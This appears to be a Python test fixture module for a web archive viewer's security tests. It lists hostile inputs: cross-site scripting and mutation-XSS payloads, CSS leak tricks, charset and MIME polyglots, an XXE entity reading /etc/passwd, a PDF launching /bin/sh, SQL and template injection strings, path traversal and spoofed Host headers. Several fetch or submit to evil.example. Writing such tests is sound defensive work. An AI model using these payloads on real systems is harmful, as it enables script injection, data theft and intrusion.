"""What strangers may have written, sent or asked to do harm: a comment above each kind.

`RUN` is what a script of theirs would do; whoever waits at `evil.example` would hear of it, too.
"""

import zlib

from tests.browser.chromium import EVIL
from tests.browser.reader import RAN

AT = f"http://{EVIL}"
RUN = f"console.log('{RAN}');alert(1);document.title='{RAN}';fetch('{AT}/ran')"
_SCRIPT = f"<script>{RUN}</script>"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><circle r="9"/></svg>'
_WORDS = "<p>The ledger of the ferry was kept in green ink for nine years, and nobody read it.</p>" * 3
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010804000000b51c0c020000000b4944415478da6364f80f00010501012718e3660000000049454e44ae426082"
)


def _page(head: str = "", body: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head><title>Page</title>{head}</head><body><h1>Ledger</h1>{_WORDS}{body}</body></html>".encode()


def _pdf() -> bytes:
    objects = (
        (
            "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example/p'\\))>>"
            "/AA<</WC<</S/URI/URI(http://evil.example/aa)>>>>>>"
        ),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/Launch/F(/bin/sh)>>>>>>",
    )
    made = b"%PDF-1.7\n"
    places = []
    for number, each in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj{each}endobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    return (
        made
        + f"xref\n0 4\n0000000000 65535 f \n{table}trailer<</Size 4/Root 1 0 R>>\nstartxref\n{len(made)}\n%%EOF".encode()
    )


HTML = "text/html; charset=utf-8"
# Name, media type as it is sent (None: none is), body.
PAYLOADS: tuple[tuple[str, str | None, bytes], ...] = (
    # pages whose scripts are plain
    ("script", HTML, _page(_SCRIPT, _SCRIPT)),
    (
        "handlers",
        HTML,
        _page("", f'<img src=x onerror="{RUN}"><svg onload="{RUN}"><details open ontoggle="{RUN}">'),
    ),
    (
        "module",
        HTML,
        _page(
            f"<script type=module>{RUN}</script><script type=importmap>{{}}</script><script async src={AT}/a.js></script>"
        ),
    ),
    (
        "json-ld",
        HTML,
        _page('<script type="application/ld+json">{"name":"</script>' + _SCRIPT + '"}</script>'),
    ),
    (
        "worker",
        HTML,
        _page(f"<script>navigator.serviceWorker.register('/sw.js');new Worker('data:,x');{RUN}</script>"),
    ),
    (
        "speculation",
        HTML,
        _page(
            f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{AT}/spec"]}}],"prerender":[{{"urls":["{AT}/pre"]}}]}}</script>'
        ),
    ),
    # pages that go, or send, elsewhere
    ("refresh", HTML, _page(f'<meta http-equiv=refresh content="0;url={AT}/refresh">')),
    (
        "refresh-script",
        HTML,
        _page(
            f'<meta http-equiv=refresh content="0;url=javascript:{RUN}"><meta http-equiv="Refresh" content="0, {AT}/r2">'
        ),
    ),
    ("base", HTML, _page(f"<base href={AT}/ target=_top>", "<img src=i.png><a href=a>x</a>")),
    (
        "hints",
        HTML,
        _page(
            "".join(
                f"<link rel={rel} href={AT}/{rel} as=script>"
                for rel in "preconnect dns-prefetch prefetch prerender preload modulepreload icon manifest stylesheet alternate".split()
            )
        ),
    ),
    (
        "form",
        HTML,
        _page(
            "",
            f"<form id=f action={AT}/form method=post><input name=a autofocus></form><button form=f formaction={AT}/f2>x</button><script>f.submit()</script>",
        ),
    ),
    (
        "ping",
        HTML,
        _page("", f"<a href=/ ping={AT}/ping attributionsrc={AT}/attr>x</a><a href={AT}/dl download>y</a>"),
    ),
    (
        "top",
        HTML,
        _page(
            f"<script>top.location='{AT}/top';parent.document.title='{RAN}';opener&&(opener.location='{AT}/o')</script>"
        ),
    ),
    (
        "named-window",
        HTML,
        _page(
            "",
            f"<a id=a href={AT}/w target=_top>x</a><a href={AT}/w target=q>x</a><script>a.click();window.open('{AT}/open')</script>",
        ),
    ),
    (
        "cookie",
        HTML,
        _page(
            "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=Content-Security-Policy content=\"default-src *\">"
        ),
    ),
    # frames in all their forms
    (
        "frames",
        HTML,
        _page(
            "",
            f'<iframe src={AT}/f></iframe><iframe srcdoc="{_SCRIPT}"></iframe><iframe src="javascript:{RUN}"></iframe><iframe src="data:text/html,{_SCRIPT}"></iframe>',
        ),
    ),
    (
        "frameset",
        HTML,
        f'<html><head><title>Frames</title></head><frameset onload="{RUN}"><frame src={AT}/f1><frame src="javascript:{RUN}"></frameset></html>'.encode(),
    ),
    (
        "object",
        HTML,
        _page(
            "",
            f'<object data={AT}/o></object><object data="data:text/html,{_SCRIPT}"></object><embed src={AT}/e><applet archive={AT}/j></applet>',
        ),
    ),
    (
        "portal",
        HTML,
        _page(
            "", f"<portal src={AT}/portal></portal><fencedframe></fencedframe><webview src={AT}/w></webview>"
        ),
    ),
    # styles that ask
    (
        "css",
        HTML,
        _page(
            f"<style>@import '{AT}/i.css';@import url({AT}/i2);body{{background:url({AT}/b);-moz-binding:url({AT}/m);width:expression({RUN})}}@font-face{{font-family:x;src:url({AT}/f)}}h1{{font-family:x}}</style>"
        ),
    ),
    (
        "css-leak",
        HTML,
        _page(
            f'<style>input[value^="a"]{{background:url({AT}/leak-a)}}@property --x{{syntax:"<url>";inherits:true;initial-value:url({AT}/p)}}p{{background:image-set("{AT}/set" 1x);cursor:url({AT}/c),auto;content:url({AT}/k)}}</style>',
            "<input value=abc>",
        ),
    ),
    (
        "css-layers",
        HTML,
        _page(
            f"<style>@import url({AT}/l) layer(a) supports(display:grid);@layer a{{p::before{{content:url({AT}/b)}}}}@container(min-width:1px){{p{{mask:url({AT}/m)}}}}p{{&:hover,&{{list-style:url({AT}/n);border-image-source:url({AT}/o)}}}}</style>"
        ),
    ),
    (
        "style-attribute",
        HTML,
        _page(
            "",
            f'<p style="background:u\\72l({AT}/a)">x</p><div style="--a:url({AT}/b);background:var(--a)">y</div><q style=\'shape-outside:url("{AT}/c");float:left\'>z</q>',
        ),
    ),
    ("style-sheet", "text/css", f"@import '{AT}/a';p{{background:url({AT}/b)}}</style>{_SCRIPT}".encode()),
    # markup that a browser reads in another way than a parser
    (
        "mxss-math",
        HTML,
        _page(
            "",
            f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        ),
    ),
    ("mxss-svg", HTML, _page("", f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">')),
    (
        "mxss-form",
        HTML,
        _page("", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"),
    ),
    (
        "mxss-desc",
        HTML,
        _page("", f"<svg><desc><noscript><p title='</noscript><img src=x onerror={RUN}>'></desc></svg>"),
    ),
    (
        "mxss-annotation",
        HTML,
        _page(
            "",
            f'<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror={RUN}>"></annotation-xml></math>',
        ),
    ),
    (
        "select",
        HTML,
        _page(
            "",
            f"<select><template><style></select><script>{RUN}</script></style></template></select><select><selectedcontent></select>",
        ),
    ),
    (
        "noscript",
        HTML,
        _page(
            f'<noscript><style></noscript><img src=x onerror="{RUN}"></style></noscript>',
            f"<noscript><meta http-equiv=refresh content='0;url={AT}/n'></noscript>",
        ),
    ),
    (
        "template",
        HTML,
        _page(
            "",
            f"<template>{_SCRIPT}</template><div><template shadowrootmode=open><style>:host{{background:url({AT}/h)}}</style>{_SCRIPT}<slot></slot></template></div>",
        ),
    ),
    (
        "comments",
        HTML,
        _page("", f"<!--><script>{RUN}</script>--><!-- --!><script>{RUN}</script><!-->" + _SCRIPT),
    ),
    ("cdata", HTML, _page("", f"<svg><![CDATA[</svg>{_SCRIPT}]]></svg><![CDATA[>{_SCRIPT}]]>")),
    (
        "plaintext",
        HTML,
        _page("", f"<listing>&lt;script&gt;{RUN}&lt;/script&gt;</listing><xmp></xmp><plaintext>{_SCRIPT}"),
    ),
    (
        "null-bytes",
        HTML,
        _page(
            "", f"<scr\0ipt>{RUN}</scr\0ipt><img \0src=x \0onerror={RUN}><a href='java\0script:{RUN}'>x</a>"
        ),
    ),
    (
        "attributes",
        HTML,
        _page(
            "",
            f"<p title='\"><script>{RUN}</script>' id=\"'><img src=x onerror={RUN}>\" class='`><svg onload={RUN}>'>x</p>",
        ),
    ),
    (
        "clobber",
        HTML,
        _page(
            "",
            "<form id=document><input name=querySelectorAll><img name=body><a id=location href=x></a></form><div id=main></div><div class=notes></div><a class=mark href=#main>1</a>",
        ),
    ),
    (
        "custom",
        HTML,
        _page(
            "",
            f"<x-y onfocus={RUN} tabindex=1 autofocus>x</x-y><p is=x-z popover id=p>q</p><button popovertarget=p commandfor=p command=show-popover onbeforetoggle={RUN}>z</button><dialog open oncancel={RUN}>d</dialog>",
        ),
    ),
    (
        "animation",
        HTML,
        _page(
            "<style>@keyframes k{from{color:red}}</style>",
            f'<p style="animation:k 1ms" onanimationstart="{RUN}" onanimationend="{RUN}">x</p><svg><a><animate attributeName=href values="javascript:{RUN}" /><text y=9>x</text></a></svg><marquee onstart={RUN}>m</marquee>',
        ),
    ),
    (
        "media",
        HTML,
        _page(
            "",
            f"<video src={AT}/v poster={AT}/p autoplay onerror={RUN}><source src={AT}/s onerror={RUN}><track src={AT}/t default></video><audio src={AT}/a autoplay controls></audio>",
        ),
    ),
    (
        "images",
        HTML,
        _page(
            "",
            f'<img src={AT}/a srcset="{AT}/b 2x" lowsrc={AT}/c><picture><source srcset={AT}/d></picture><input type=image src={AT}/e><image src={AT}/f><svg><image href={AT}/g /><feImage href={AT}/h /><use href="data:image/svg+xml,{_SVG}#x" /></svg>',
        ),
    ),
    (
        "urls",
        HTML,
        _page(
            "",
            "".join(
                f"<a href='{url}'>x</a><img src='{url}'>"
                for url in (
                    f"java\tscript:{RUN}",
                    f" \x01javascript:{RUN}",
                    "vbscript:x",
                    f"data:text/html,{RUN}",
                    "blob:null/x",
                    "filesystem:x",
                    "view-source:x",
                    "file:///etc/passwd",
                    "intent://x",
                    "ms-word:x",
                    "//evil.example/r",
                    "\\\\evil.example\\s",
                )
            ),
        ),
    ),
    # character sets that change what is markup
    (
        "utf-7",
        "text/html; charset=utf-7",
        _page("<meta charset=utf-7>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ),
    ("utf-16", "text/html", _page("", _SCRIPT).decode().encode("utf-16-le")),
    ("utf-16-bom", "text/html; charset=iso-8859-1", _page("", _SCRIPT).decode().encode("utf-16")),
    (
        "iso-2022-jp",
        "text/html; charset=iso-2022-jp",
        _page("<meta charset=iso-2022-jp>", "<img alt='\x1b$B'><img src='x\x1b(B onerror=" + RUN + " '>"),
    ),
    ("hz", "text/html; charset=hz-gb-2312", _page("", f"~{{<script>~}}{RUN}</script>")),
    ("ebcdic", "text/html; charset=ibm037", _page("", _SCRIPT).decode().encode("cp037")),
    ("no-charset", "text/html; charset=\"'><script>", _page("", _SCRIPT + "\x80\xff")),
    (
        "torn-utf-8",
        HTML,
        b"<html><body><p>\xc3<img src='\xe2\x82' onerror=" + RUN.encode() + b">" + _WORDS.encode(),
    ),
    # what is called one thing, and is another
    ("as-text.html", "text/plain", _page("", _SCRIPT)),
    ("as-image.png", "image/png", _page("", _SCRIPT)),
    ("as-nothing", None, _page("", _SCRIPT)),
    ("as-octets", "application/octet-stream", _page("", _SCRIPT)),
    ("as-unknown", "application/x-unknown; a=b", _page("", _SCRIPT)),
    (
        "as-multipart",
        "multipart/x-mixed-replace; boundary=x",
        b"--x\r\nContent-Type: text/html\r\n\r\n" + _page("", _SCRIPT) + b"\r\n--x--",
    ),
    ("as-script.js", "text/javascript", RUN.encode()),
    ("as-json", "application/json", f'{{"a":"{_SCRIPT}"}}'.encode()),
    ("as-wasm", "application/wasm", b"\0asm\1\0\0\0"),
    ("as-manifest", "text/cache-manifest", b"CACHE MANIFEST\n/\n"),
    (
        "as-mhtml",
        "message/rfc822",
        b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _page("", _SCRIPT),
    ),
    ("as-warc", "application/warc", b"WARC/1.1\r\n\r\n" + _page("", _SCRIPT)),
    ("polyglot.gif", "image/gif", b"GIF89a/*\x00\x00\x00\x00*/=1;" + RUN.encode() + _page("", _SCRIPT)),
    ("polyglot.png", "text/html", PNG + _page("", _SCRIPT)),
    ("polyglot.pdf", "text/html", _pdf() + _page("", _SCRIPT)),
    ("type-header", "text/html\r\n X-Folded: <script>", _page("", _SCRIPT)),
    ("type-long", "text/html; " + "a=b; " * 2000, _page("", _SCRIPT)),
    # other formats that can do something
    ("drawing.svg", "image/svg+xml", _SVG.encode()),
    (
        "entities.svg",
        "image/svg+xml",
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "{RUN}">]><svg xmlns="http://www.w3.org/2000/svg" onload="&y;"><text>&x;</text><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{AT}/x"/></foreignObject></svg>'.encode(),
    ),
    (
        "sheet.svg",
        "image/svg+xml",
        f'<?xml-stylesheet href="{AT}/s.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><style>@import "{AT}/c";</style><image xlink:href="{AT}/i"/><a xlink:href="javascript:{RUN}"><text y="9">x</text></a><set attributeName="onload" to="{RUN}"/></svg>'.encode(),
    ),
    ("packed.svgz", "image/svg+xml", zlib.compress(_SVG.encode(), wbits=31)),
    (
        "page.xhtml",
        "application/xhtml+xml",
        f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>X</title><script>{RUN}</script></head><body onload="{RUN}">{_WORDS}<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script></body></html>'.encode(),
    ),
    (
        "sheet.xml",
        "application/xml",
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script></xsl:template></xsl:stylesheet></x>'.encode(),
    ),
    (
        "feed.xml",
        "application/rss+xml",
        f"<rss><channel><title>&lt;script&gt;{RUN}&lt;/script&gt;</title><link>javascript:{RUN}</link></channel></rss>".encode(),
    ),
    ("script.pdf", "application/pdf", _pdf()),
    ("empty", HTML, b""),
    ("deep", HTML, b"<html><body>" + b"<div><b><table><tr><td>" * 4000 + _SCRIPT.encode() + _WORDS.encode()),
    (
        "wide",
        HTML,
        _page(
            "",
            "<p>"
            + "W" * 30_000
            + "</p><pre>"
            + "=" * 30_000
            + "</pre><table><tr>"
            + "<td>cell</td>" * 300
            + "</tr></table>",
        ),
    ),
    (
        "covering",
        HTML,
        _page(
            "<style>body,p{position:fixed;inset:-99px;z-index:2147483647;font-size:900px;background:red}</style>",
            "<p>Your session has ended</p>",
        ),
    ),
)

# Titles, names, notes: what stands in a database, and is shown in a page.
TEXTS = (
    _SCRIPT,
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload='{RUN}'>",
    f"</title></script></textarea></style>{_SCRIPT}",
    f"<!--<script>{RUN}</script>-->",
    f"]]>{_SCRIPT}",
    f"<base href={AT}/><meta http-equiv=refresh content='0;url={AT}/m'>",
    f"<link rel=stylesheet href={AT}/l><img src={AT}/i>",
    "{{ 7*7 }}{% raw %}{{ config }}${7*7}#{7*7}<%= 7*7 %>",
    f"javascript:{RUN}",
    f"[x](javascript:{RUN}) ![x]({AT}/md)",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "\u202egnp.exe\u202c \u2066isolated \u200f\u200e\u061c",
    "A\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "' OR 1=1; DROP TABLE posts; --",
    'said "so" and \'so\' `so` \\so\\',
    "x" * 20_000,
    "long word after word " * 500,
    "e" + "\u0301" * 2000,
    "\U0001f3f4\u200d\u2620\ufe0f" * 60 + "\ufdfd" * 40,
    "before\0after\x07\x1b[31mred\x7f",
    "\u2028\u2029\ufeff\ufffe\U0010ffff",
    "  \t\n  ",
    "%00%0d%0a%zz%",
    "\x01marked\x02 as if it were found \x01\x01\x02",
    '=HYPERLINK("http://evil.example")',
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f" \x01javascript:{RUN}",
    f"JaVaScRiPt://a.example/%0a{RUN}",
    f"data:text/html,{_SCRIPT}",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f'http://a.example/"onmouseover="{RUN}',
    f"http://a.example/'><script>{RUN}</script>",
    "http://a.example/\r\nSet-Cookie: a=b",
    'http://a.example/>; rel="original", <http://evil.example/',
    "http://a.example/%zz%00\0",
    "http://user:password@a.example:99999/",
    "http://[::1",
    "http://[v1.a]/",
    "//evil.example/a",
    "http:\\\\evil.example\\a",
    "http://xn--\u202e.example/\u202ecod.html",
    "http://a.example/" + "long/" * 4000,
    "http://a.example/?q=" + "\U0001f600" * 50,
    "https://a.example/{{7*7}}?a=1&amp;b=<b>",
    "",
    "no address at all",
)  # fmt: skip

# Where somebody goes by hand: the rest of an address after the database's name.
REQUESTS = (
    # what is typed into the search box
    *(f"-/search?q={words}" for words in (
        "%00", "%22*", "%22", "*", "NEAR(", "a%20AND", "NOT", "%28%28%28", "title%3Ax", "col%3A*", "%5E", "-", "--", "%F0%9F%98%80", "%ff%fe",
        "a" * 100_000, "%22" * 5000, "x%20" * 20_000, "%E2%80%AE", "%27%20OR%201=1", "ledger*%20%22the%20ferry", "%01%02", "%EF%BF%BF", "+", "&q=b",
    )),
    *(f"-/search?q=ledger&{rest}" for rest in (
        "page=-1", "page=0", "page=99999999999999999999", "page=%D9%A3", "page=%C2%B2", "page=1e3", "page=999", "kind=nothing", "kind[]=post", "outcome=%27",
        "host=%25", "language=%00", "month=2019-99", "month=%D9%A2%D9%A0%D9%A1%D9%A9-%D9%A0%D9%A9", "since=%00&until=%00", "since=zzz", "until=" + "9" * 9000,
    )),
    # numbers and months
    *(f"-/{kind}/{number}" for kind in ("post", "source", "snapshot") for number in (
        "0", "-1", "9" * 18, "9" * 40, "%D9%A3", "%C2%B2", "1.0", "0x1", "1%00", "1%0A", "1/", "..%2f1", "1;a", "+1", "%F0%9D%9F%8F",
    )),
    *(f"-/month/{month}" for month in ("0000-01", "0000-00", "9999-12", "2019-00", "2019-13", "%D9%A2%D9%A0%D9%A1%D9%A9-%D9%A0%D9%A9", "2019-09%0A", "2019-9", "-001-01")),
    *(f"-/diff?old={old}&new={new}" for old, new in (
        ("1", "1"), ("-1", "2"), ("%C2%B2", "%C2%B2"), ("9" * 19, "1"), ("9" * 5000, "1"), ("", ""), ("1", "%00"), ("%D9%A1", "%D9%A1"), ("1e1", "1"),
    )),
    *(f"-/snapshot/1/{part}" for part in ("", "nothing", "..", "%2e%2e/raw", "raw%00", "content?x=" + "y" * 9000, "page#x", "record/")),
    # whose captures are wanted
    *(f"-/{kind}/{url}" for kind in ("timegate", "timemap/link") for url in (
        "javascript:alert(1)", "http:", "http:///", "http://[::1", "http://%00/", "%0d%0aSet-Cookie:%20a=b", "http://a.example/%0d%0aX:%20y", "a" * 9000, "..",
        "http://a.example/?a=1%26b&c", "%ff%fe", "http://a.example:99999/", "http://\xe9.example/", "http://a.example/>;rel=x", "http://xn--0.example/",
    )),
)  # fmt: skip
NAMES = (
    "..", "../..", "%2e%2e", "nothing", "archive%00", "archive/..", "%ff", "_memory", "-", "archive.db", "<script>", "a" * 5000,
)  # fmt: skip
# Headers of a request, to the page after them.
HEADERS = (
    *(({"accept-datetime": date}, "-/timegate/http://source.example/script") for date in (
        "yesterday", "", "0", "9" * 5000, "Thu, 32 Jan 2026 00:00:00 GMT", "Thu, 01 Jan 99999 00:00:00 GMT", "Thu, 01 Jan 0000 00:00:00 GMT", "2026-01-01",
        "Thu, 01 Jan 2026 00:00:00 +9999", "\xff\xfe", "Mon, 01 Jan 0001 00:00:00 +1400", "Fri, 31 Dec 9999 23:59:59 -2359",
    )),
    *(({"host": host}, rest) for rest in ("-/home", "-/snapshot/1", "-/timegate/http://source.example/script", "-/snapshot/1/content") for host in (
        "", "evil.example", "127.0.0.1.evil.example", "localhost:x", "127.0.0.1:1:2", "[::1", "[::1]", "localhost\\@evil.example", "127.0.0.1, evil.example",
        "a.localhost;script-src *", "x,y.localhost", "127.0.0.1:80 evil.example", "\xe9.localhost", "<script>.localhost", "..localhost", "a\tb.localhost", "'none'.localhost",
    )),
    ({"range": "bytes=99999999999-"}, "-/snapshot/1/record"),
    ({"if-none-match": '"' * 900}, "-/snapshot/1/content"),
    ({"cookie": "a=b; " * 900}, "-/home"),
    ({"x-forwarded-host": "evil.example", "forwarded": "host=evil.example"}, "-/snapshot/1"),
)  # fmt: skip
